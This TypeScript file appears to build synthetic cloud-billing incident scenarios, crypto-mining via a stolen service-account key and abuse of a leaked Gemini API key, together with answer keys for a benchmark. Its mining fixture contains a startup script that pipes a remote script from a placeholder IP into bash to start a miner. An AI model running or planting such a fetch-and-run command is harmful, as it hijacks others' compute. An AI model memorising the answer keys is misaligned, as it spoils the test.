// Somebody else uses the account.

import { link, machine, operation } from '../build/compute.js';
import { audit } from '../build/logs.js';
import { accountKey, apiKey, enabled, serviceAccount } from '../build/services.js';
import { plain } from '../cloud.js';
import { onlySince } from '../lines.js';
import { spikeOf, type Told } from '../plot.js';
import { startDay } from '../setting.js';
import { growth, launch, oldSink, sandbox, stoppedGpu } from './decoys.js';

const mining: Told = {
  name: 'gcp-quiet-night',
  family: 'security',
  about: 'a small platform team; a bill that rose over night',
  plot: (setting) => {
    const { farGeo, farRegion, prod, scale, start } = setting;
    const random = setting.random.fork('plot');
    const account = random.pick(['backup-agent', 'metrics-export', 'legacy-sync']);
    const email = `${account}@${prod.id}.iam.gserviceaccount.com`;
    const key = random.hex(40);
    const keyName = `//iam.googleapis.com/projects/${prod.id}/serviceAccounts/${email}/keys/${key}`;
    const ip = `185.${String(random.whole(100, 230))}.${String(random.whole(1, 250))}.${String(random.whole(1, 250))}`;
    const zone = `${farRegion}-${random.pick(['a', 'b'])}`;
    const count = Math.round(random.between(7, 12) * scale);
    const names = Array.from({ length: count }, () => `instance-${random.hex(6)}`);
    const agent = 'python-requests/2.31.0';
    return {
      part: {
        items: [
          serviceAccount(setting, prod.id, account, 'Old integration'),
          accountKey(setting, prod.id, account, key, -410, true),
          accountKey(setting, prod.id, account, random.hex(40), start, true),
          ...names.map((name) =>
            machine(setting, {
              project: prod.id,
              zone,
              name,
              type: 'c2-standard-30',
              day: start,
              hour: 2.3,
              account: email,
              isPublic: true,
              metadata: [
                {
                  key: 'startup-script',
                  value: '#!/bin/bash\ncurl -s http://198.51.100.77/x.sh | bash -s -- --donate-level 1 -o pool.example:3333',
                },
              ],
              image: 'ubuntu-2204-jammy',
            }),
          ),
          ...names
            .slice(0, 8)
            .map((name) =>
              operation(setting, { project: prod.id, location: zone, day: start, hour: 2.3, type: 'insert', target: name, user: email }),
            ),
        ],
        logs: [
          audit(setting, {
            project: prod.id,
            day: start,
            hour: 2.05,
            method: 'v1.compute.regions.list',
            service: 'compute.googleapis.com',
            who: email,
            resource: `projects/${prod.id}`,
            type: 'api',
            ip,
            agent,
            key: keyName,
            isData: true,
          }),
          audit(setting, {
            project: prod.id,
            day: start,
            hour: 2.1,
            method: 'google.iam.admin.v1.CreateServiceAccountKey',
            service: 'iam.googleapis.com',
            who: email,
            resource: `projects/-/serviceAccounts/${email}`,
            type: 'service_account',
            labels: { email_id: email },
            ip,
            agent,
            key: keyName,
          }),
          audit(setting, {
            project: prod.id,
            day: start,
            hour: 2.2,
            method: 'v1.compute.firewalls.insert',
            service: 'compute.googleapis.com',
            who: email,
            resource: `projects/${prod.id}/global/firewalls/allow-all-x`,
            type: 'gce_firewall_rule',
            ip,
            agent,
            key: keyName,
          }),
          ...names.slice(0, 12).map((name, n) =>
            audit(setting, {
              project: prod.id,
              day: start,
              hour: 2.3 + n / 100,
              method: 'v1.compute.instances.insert',
              service: 'compute.googleapis.com',
              who: email,
              resource: `projects/${prod.id}/zones/${zone}/instances/${name}`,
              type: 'gce_instance',
              labels: { zone },
              ip,
              agent,
              key: keyName,
              request: { machineType: link(prod.id, zone, 'machineTypes', 'c2-standard-30'), name },
            }),
          ),
          audit(setting, {
            project: prod.id,
            day: start,
            hour: 2.6,
            method: 'v1.compute.instances.insert',
            service: 'compute.googleapis.com',
            who: email,
            resource: `projects/${prod.id}/zones/${zone}/instances/instance-a100`,
            type: 'gce_instance',
            labels: { zone },
            ip,
            agent,
            key: keyName,
            status: { code: 8, message: 'QUOTA_EXCEEDED' },
          }),
        ],
        grants: [{ project: prod.id, role: 'roles/editor', member: `serviceAccount:${email}` }],
      },
      uses: [
        {
          key: 'mine-core',
          project: prod.id,
          service: 'compute',
          sku: `Compute optimized Core running in ${farGeo}`,
          region: farRegion,
          zone,
          unit: 'hour',
          price: 0.04188,
          usd: count * 30 * 24 * 0.034,
          noise: 0,
          resource: `zones/${zone}/instances/${names[0] ?? ''}`,
          change: onlySince(start, 0.9),
        },
        {
          key: 'mine-ram',
          project: prod.id,
          service: 'compute',
          sku: `Compute optimized Ram running in ${farGeo}`,
          region: farRegion,
          zone,
          unit: 'gibibyte hour',
          price: 0.00561,
          usd: count * 120 * 24 * 0.0046,
          noise: 0,
          resource: `zones/${zone}/instances/${names[0] ?? ''}`,
          change: onlySince(start, 0.9),
        },
      ],
      truth: {
        outcome: 'cause-found',
        causes: ['G24'],
        spike: spikeOf(setting, /^Compute Engine$/, /Compute optimized/),
        facts: [email, key, names[0] ?? '', ip, startDay(setting)],
      },
    };
  },
  decoys: (setting) => [launch(setting), growth('bq-scan'), sandbox(setting), stoppedGpu(setting)],
};

const leakedKey: Told = {
  name: 'gcp-chat-widget',
  family: 'security',
  about: 'a site with an assistant that answers questions of customers',
  plot: (setting) => {
    const { colleague, days, domain, prod, scale, start } = setting;
    const random = setting.random.fork('plot');
    const name = random.pick(['Gemini test key', 'chat widget', 'demo key']);
    const key = apiKey(setting, prod.id, name, start - 44, undefined);
    const usd = random.between(110, 180) * scale;
    const ips = Array.from(
      { length: 9 },
      () =>
        `${String(random.whole(40, 200))}.${String(random.whole(1, 250))}.${String(random.whole(1, 250))}.${String(random.whole(1, 250))}`,
    );
    return {
      part: {
        items: [
          key,
          apiKey(setting, prod.id, 'Assistant production', start - 60, {
            apiTargets: [{ service: 'generativelanguage.googleapis.com' }],
            serverKeyRestrictions: { allowedIps: ['34.118.20.11'] },
          }),
          ...enabled(setting, prod.id, 'generativelanguage'),
        ],
        logs: [
          audit(setting, {
            project: prod.id,
            day: start - 44,
            hour: 10.6,
            method: 'google.api.apikeys.v2.ApiKeys.CreateKey',
            service: 'apikeys.googleapis.com',
            who: colleague,
            resource: plain(key.json['name']),
            type: 'audited_resource',
          }),
          ...Array.from({ length: 40 }, (_, n) =>
            audit(setting, {
              project: prod.id,
              day: days - 1 - Math.floor(n / 20),
              hour: 23.6 - (n % 20) * 1.1,
              method: 'google.ai.generativelanguage.v1beta.GenerativeService.GenerateContent',
              service: 'generativelanguage.googleapis.com',
              who: `apikey:${key.id}`,
              resource: 'models/gemini-2.5-pro',
              type: 'audited_resource',
              labels: {
                service: 'generativelanguage.googleapis.com',
                method: 'google.ai.generativelanguage.v1beta.GenerativeService.GenerateContent',
              },
              ip: ips[n % ips.length] ?? '',
              agent: n % 3 === 0 ? 'python-requests/2.32' : 'node-fetch',
              isData: true,
              request: { model: 'models/gemini-2.5-pro', referer: n % 5 === 0 ? `https://www.${domain}/` : '' },
            }),
          ),
        ],
      },
      uses: [
        {
          key: 'key-in',
          project: prod.id,
          service: 'gemini',
          sku: 'Generate content input token count gemini 2.5 pro short input text',
          region: 'global',
          unit: 'count',
          price: 0.00000125,
          usd: usd * 0.4,
          noise: 0.08,
          change: (quantity, day) => quantity * (day < start ? 0.02 : day === start ? 0.6 : 1),
        },
        {
          key: 'key-out',
          project: prod.id,
          service: 'gemini',
          sku: 'Generate content output token count gemini 2.5 pro short input text',
          region: 'global',
          unit: 'count',
          price: 0.00001,
          usd: usd * 0.6,
          noise: 0.08,
          change: (quantity, day) => quantity * (day < start ? 0.02 : day === start ? 0.6 : 1),
        },
      ],
      truth: {
        outcome: 'cause-found',
        causes: ['G11'],
        spike: spikeOf(setting, /^Gemini API$/, /token count/),
        facts: [key.id, name, startDay(setting)],
      },
    };
  },
  decoys: (setting) => [launch(setting), growth('gemini', 'run-cpu'), oldSink(setting)],
};

export const STRANGERS: readonly Told[] = [mining, leakedKey];
